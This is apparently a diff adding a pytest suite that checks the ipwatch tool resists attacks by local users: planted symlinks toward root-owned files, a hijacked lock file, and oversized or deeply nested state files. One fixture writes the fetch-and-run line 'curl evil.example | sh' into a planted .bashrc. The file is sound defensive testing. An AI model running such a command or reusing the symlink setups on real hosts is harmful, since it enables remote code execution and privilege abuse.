@@ -1,0 +1,238 @@
+"""Attacks by local users and hostile peers (issue #18), each through the real CLI where it can be.
+
+The unit gives STATE_DIR to the asterisk user, who also owns /etc/asterisk; an admin runs ipwatch
+as root beside it. These tests play that user with `nobody` (65534) and check that root's ipwatch
+never writes, reads, truncates, deletes or runs anything that user could point it at.
+"""
+
+from __future__ import annotations
+
+import os
+import pwd
+import stat
+import subprocess
+import sys
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from tests.peers.asterisk import NAT_TRANSPORT as PJSIP
+from tests.peers.asterisk import NEW_ADDRESS as NEW
+from tests.peers.asterisk import OLD_ADDRESS as OLD
+from tests.support import run_ipwatch, wait_until
+
+REPOSITORY = Path(__file__).resolve().parents[2]
+NOBODY = 65534
+VICTIM_TEXT = "root's own file\n"
+
+
+def need_root() -> None:
+    if os.geteuid() != 0:
+        pytest.skip("playing another local user needs root")
+
+
+def give(path: Path, uid: int = NOBODY) -> Path:
+    """Hand `path` to another user, as the unit hands the state directory to asterisk."""
+    os.chown(path, uid, uid, follow_symlinks=False)
+    return path
+
+
+def victim(directory: Path, name: str = "victim") -> Path:
+    """A root-owned file standing in for /etc/shadow or /root/.bashrc."""
+    path = directory / name
+    path.write_text(VICTIM_TEXT)
+    path.chmod(0o600)
+    return path
+
+
+def apply_config(directory: Path, target: Path, extra: str = "") -> Path:
+    config = directory / "ipwatch.toml"
+    config.write_text(
+        f'confirm = 1\naccept = ["198.51.100.0/24"]\n'
+        f'[[source]]\nkind = "command"\nargv = ["echo", "{NEW}"]\n'
+        f'[[target]]\nkind = "pjsip"\nfile = "{target}"\n'
+        f'[hooks]\ndir = "{directory / "no-hooks"}"\n'
+        f'[asterisk]\ncontrol = "none"\n{extra}'
+    )
+    config.chmod(0o600)
+    return config
+
+
+@pytest.fixture
+def lab(tmp_path: Path) -> Iterator[Path]:
+    """tmp_path, traversable by `nobody` (pytest makes it root's alone)."""
+    tmp_path.chmod(0o755)
+    yield tmp_path
+
+
+# --- 1. backups/ through a symlink ----------------------------------------------------------
+
+
+def test_root_does_not_write_a_backup_through_a_link_the_state_dir_owner_planted(
+    lab: Path,
+) -> None:
+    need_root()
+    home = lab / "root-home"
+    home.mkdir(mode=0o700)
+    bashrc = victim(home, ".bashrc")
+    etc = lab / "etc-asterisk"
+    etc.mkdir()
+    (etc / "pjsip.conf").write_text("#include .bashrc\n")
+    (etc / ".bashrc").write_text("curl evil.example | sh\n" + PJSIP)
+    state = lab / "state"
+    state.mkdir()
+    give(state)
+    mirror = state / "backups" / str(etc.parent).lstrip("/")
+    mirror.mkdir(parents=True)
+    for directory in [mirror, *mirror.parents]:
+        if directory == state:
+            break
+        give(directory)
+    (mirror / "etc-asterisk").symlink_to(home)
+    config = apply_config(lab, etc / "pjsip.conf")
+    finished = run_ipwatch("check", "--apply", config=config, state_dir=state)
+    assert bashrc.read_text() == VICTIM_TEXT
+    assert sorted(os.listdir(home)) == [".bashrc"]
+    assert f"external_media_address = {OLD}" in (etc / ".bashrc").read_text()
+    assert finished.returncode == 78, finished.stderr
+    name = pwd.getpwuid(NOBODY).pw_name
+    assert finished.stderr.splitlines()[-1] == (
+        f"ipwatch: {state}: owned by {name} (uid {NOBODY}), not root; root must not write where"
+        f" another user can plant symlinks, so run ipwatch as that user (sudo -u {name} ipwatch"
+        " ...) or pass --state-dir with a directory of root's"
+    )
+
+
+def test_a_symlink_inside_a_private_state_dir_is_not_followed(lab: Path) -> None:
+    """Even where the directory is root's: a link left there is never walked through."""
+    home = lab / "root-home"
+    home.mkdir(mode=0o700)
+    bashrc = victim(home, ".bashrc")
+    etc = lab / "etc-asterisk"
+    etc.mkdir()
+    (etc / ".bashrc").write_text(PJSIP)
+    (etc / "pjsip.conf").write_text("#include .bashrc\n")
+    state = lab / "state"
+    mirror = state / "backups" / str(etc.parent).lstrip("/")
+    mirror.mkdir(parents=True)
+    (mirror / "etc-asterisk").symlink_to(home)
+    stale = home / ".ipwatch-.bashrc.k2j4h5.tmp"
+    stale.write_text("not ipwatch's\n")
+    os.utime(stale, (0, 0))
+    config = apply_config(lab, etc / "pjsip.conf")
+    finished = run_ipwatch("check", "--apply", config=config, state_dir=state)
+    assert bashrc.read_text() == VICTIM_TEXT and stale.exists()
+    assert finished.returncode == 3, finished.stderr
+    where = mirror / "etc-asterisk"
+    assert f"{where} is a symbolic link or not a directory" in finished.stderr
+    assert f"external_media_address = {OLD}" in (etc / ".bashrc").read_text()
+
+
+# --- 2. the lock file through a symlink -----------------------------------------------------
+
+
+def test_run_does_not_truncate_what_a_planted_lock_symlink_points_to(lab: Path) -> None:
+    shadow = victim(lab, "shadow")
+    state = lab / "state"
+    state.mkdir()
+    (state / "ipwatch.lock").symlink_to(shadow)
+    etc = lab / "etc"
+    etc.mkdir()
+    (etc / "pjsip.conf").write_text(PJSIP)
+    config = apply_config(lab, etc / "pjsip.conf")
+    daemon = subprocess.Popen(
+        [sys.executable, "-m", "ipwatch", "-c", str(config), "--state-dir", str(state), "run"],
+        cwd=REPOSITORY,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+    )
+    try:
+        wait_until(
+            lambda: daemon.poll() is not None or shadow.read_text() != VICTIM_TEXT,
+            30,
+            "the daemon to exit or the victim file to change",
+        )
+    finally:
+        if daemon.poll() is None:
+            daemon.terminate()
+        _, stderr = daemon.communicate(timeout=30)
+    assert shadow.read_text() == VICTIM_TEXT
+    assert daemon.returncode == 78
+    lock = state / "ipwatch.lock"
+    assert stderr == (
+        f"ipwatch: {lock}: is a symbolic link; the lock must be a regular file of ipwatch's user"
+        f" (uid {os.geteuid()}), so remove it (rm {lock}) and start ipwatch again\n"
+    )
+
+
+def test_a_lock_file_of_another_user_is_refused(lab: Path) -> None:
+    need_root()
+    from ipwatch.errors import StateError
+    from ipwatch.instance import InstanceLock
+
+    state = lab / "state"
+    state.mkdir()
+    lock = state / "ipwatch.lock"
+    lock.write_text("")
+    give(lock)
+    with pytest.raises(StateError, match="owned by uid 65534"):
+        InstanceLock.acquire(state)
+
+
+# --- 7. a hostile state.json ----------------------------------------------------------------
+
+
+@pytest.mark.parametrize("text", ["[" * 100_000, '{"version": 1, "families": ' * 50_000])
+def test_a_deeply_nested_state_file_is_unknown(text: str, lab: Path) -> None:
+    (lab / "state.json").write_text(text)
+    finished = run_ipwatch("status", state_dir=lab)
+    assert finished.returncode == 3, finished.stderr
+    assert finished.stdout.startswith(f"IPWATCH UNKNOWN - {lab / 'state.json'}: ")
+    assert "move it away" in finished.stdout
+
+
+def test_a_huge_state_file_is_not_read(lab: Path) -> None:
+    state = lab / "state.json"
+    with state.open("wb") as file:
+        file.truncate(300 * 1024 * 1024)  # sparse: costs no disk
+    finished = run_ipwatch("status", state_dir=lab, wrapper=["prlimit", "--as=200000000"])
+    assert finished.returncode == 3, finished.stderr
+    assert finished.stdout == (
+        f"IPWATCH UNKNOWN - {state}: is 300 MiB, far more than a state file ever holds"
+        " (1 MiB); move it away and run `ipwatch check` again\n"
+    )
+
+
+@pytest.mark.parametrize("kind", ["fifo", "symlink"])
+def test_a_state_file_that_is_no_regular_file_is_unknown(kind: str, lab: Path) -> None:
+    state = lab / "state.json"
+    if kind == "fifo":
+        os.mkfifo(state)
+    else:
+        state.symlink_to(victim(lab))
+    finished = run_ipwatch("status", state_dir=lab, timeout=20)
+    assert finished.returncode == 3, finished.stderr
+    assert finished.stdout.startswith(f"IPWATCH UNKNOWN - {state}: ")
+    assert VICTIM_TEXT.strip() not in finished.stdout
+    assert stat.S_IMODE(lab.stat().st_mode) == 0o755
+
+
+@pytest.mark.parametrize(
+    "state",
+    [
+        '{"version": 1, "families": ["ipv4"]}',
+        '{"version": 1, "families": {"ipv4": {"address": "x", "sources": "abc"}}}',
+        '{"version": 1, "families": {"ipv4": {"address": "x", "confirmed": true,'
+        ' "sources": [{"latency_ms": "fast"}]}}}',
+        '{"version": 1, "daemon": {"pid": "x"}}',
+        '{"version": 1, "changes": [1]}',
+    ],
+)
+@pytest.mark.parametrize("form", ["text", "json"])
+def test_a_state_file_of_the_wrong_shape_is_unknown(state: str, form: str, lab: Path) -> None:
+    (lab / "state.json").write_text(state)
+    finished = run_ipwatch("status", *(["--json"] if form == "json" else []), state_dir=lab)
+    assert (finished.returncode, finished.stderr) == (3, "")
+    assert f"{lab / 'state.json'} is damaged; move it away" in finished.stdout
